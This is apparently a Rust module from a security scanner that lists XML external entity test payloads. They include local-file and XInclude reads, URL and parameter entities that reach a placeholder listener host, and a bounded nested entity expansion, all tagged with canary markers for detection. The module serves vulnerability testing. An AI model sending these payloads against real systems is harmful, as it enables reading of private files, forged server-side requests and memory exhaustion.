//! Payloads for XML parsers: entities that are printed, or that reach for a canary.
//!
//! The twin is a document that every parser accepts.

use super::{Effect, Payload, PayloadClass};

const fn xxe(id: &'static str, template: &'static str, effect: Effect, why: &'static str) -> Payload {
    Payload::new(PayloadClass::Xxe, id, template, effect, why).like("<a>{C}</a>")
}

/// Best first.
pub(super) const PAYLOADS: &[Payload] = &[
    xxe(
        "xxe-file",
        "<!DOCTYPE a [<!ENTITY e SYSTEM \"file://{F}/{C}\">]><a>&e;</a>",
        Effect::Opens("{F}/{C}"),
        "an external entity is a file",
    ),
    xxe(
        "xxe-url",
        "<!DOCTYPE a [<!ENTITY e SYSTEM \"http://{A}:{P}/{C}\">]><a>&e;</a>",
        Effect::Connects,
        "an external entity is a URL",
    ),
    xxe(
        "xxe-parameter",
        "<!DOCTYPE a [<!ENTITY % e SYSTEM \"http://{A}:{P}/{C}\">%e;]><a>a</a>",
        Effect::Connects,
        "a parameter entity is read even if no element refers to it",
    ),
    xxe(
        "xxe-doctype",
        "<!DOCTYPE a SYSTEM \"http://{A}:{P}/{C}\"><a>a</a>",
        Effect::Connects,
        "the document type itself lies elsewhere; needs no entity",
    ),
    xxe(
        "xxe-include",
        "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file://{F}/{C}\"/></a>",
        Effect::Opens("{F}/{C}"),
        "XInclude needs no document type",
    ),
    xxe(
        "xxe-internal",
        "<!DOCTYPE a [<!ENTITY e \"1337\">]><a>{C}&e;</a>",
        Effect::Output("{C}1337"),
        "shows that entities are resolved at all",
    ),
    // Bounded: 1,000 times 4 bytes. A parser that has a limit on growth stops far later.
    xxe(
        "xxe-nested",
        "<!DOCTYPE a [<!ENTITY e \"1337\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">]><a>{C}&h;</a>",
        Effect::Output("{C}133713371337133713371337133713371337133713371337"),
        "entities of entities grow by ten at each level: more levels would fill the memory",
    ),
];
